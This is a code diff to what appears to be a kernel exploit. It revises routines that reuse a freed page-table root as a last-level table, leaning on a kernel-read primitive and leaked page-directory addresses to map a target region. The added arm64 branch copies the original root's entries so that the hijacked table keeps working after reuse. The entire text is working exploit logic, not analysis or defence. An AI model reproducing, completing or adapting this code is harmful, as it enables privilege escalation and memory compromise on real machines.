@@ -602,20 +602,38 @@ static bool fill_free_page(u64 addr, const u64 *words, unsigned int differs)
 
 struct freed_root {
 	char *target;
+	const u64 *root;	/* as it was, and one entry for the target */
 	char *range;	/* what needs a new table */
 	bool used;
 };
 
-/* It becomes a table of the last level. What that maps is a table for who has it as a root. */
+/*
+ * It becomes a table of the last level. What that maps is a table for who has it as a root,
+ * who needs copies of what was there if it is loaded.
+ */
 static int use_root_as_table(void *arg)
 {
 	struct freed_root *r = arg;
-	u64 *table = (u64 *)(r->range + entry_index(r->target, leak.levels) * PAGE_SIZE);
+	unsigned int index = entry_index(r->target, leak.levels), nr = 1U << entry_bits(), i, j;
+	u64 *table = (u64 *)(r->range + index * PAGE_SIZE), **copies = calloc(nr, sizeof(*copies));
+
+	if (!copies)
+		die("no memory");
+	for (i = 0; i < nr && on_arch("arm64"); i++) {
+		if (!r->root[i] || i == index)
+			continue;
+		copies[i] = malloc(PAGE_SIZE);
+		for (j = 0; j < nr && copies[i]; j++)
+			copies[i][j] = kernel_read(kernel_address(r->root[i]) + 8 * j);
+	}
 
 	hand_out_next(struct_page(USER_ROOT), 1);
 	table[0] = 0;
-	r->used = kernel_address(kernel_read(entry_slot(leak.pgd, table, 2))) == USER_ROOT;
+	for (i = 0; i < nr; i++)
+		if (copies[i])
+			memcpy(r->range + i * PAGE_SIZE, copies[i], PAGE_SIZE);
 	map_secret(table, r->target);
+	r->used = kernel_address(kernel_read(entry_slot(leak.pgd, table, 2))) == USER_ROOT;
 	return 0;
 }
 
@@ -625,9 +643,12 @@ static int use_root_as_table(void *arg)
  */
 static int root_freed(void)
 {
-	struct freed_root r = { .target = free_address(5), .range = two_tables(0) + PMD_SIZE };
+	u64 *root = malloc(PAGE_SIZE);
+	struct freed_root r = {
+		.target = free_address(5), .root = root, .range = two_tables(0) + PMD_SIZE,
+	};
 	unsigned int index = entry_index(r.target, leak.levels), i;
-	u64 *table = map_at(NULL, PAGE_SIZE, MAP_SHARED), count, *root = malloc(PAGE_SIZE);
+	u64 *table = map_at(NULL, PAGE_SIZE, MAP_SHARED), count;
 	bool dead = false;
 	char path[32];
 	pid_t pid;
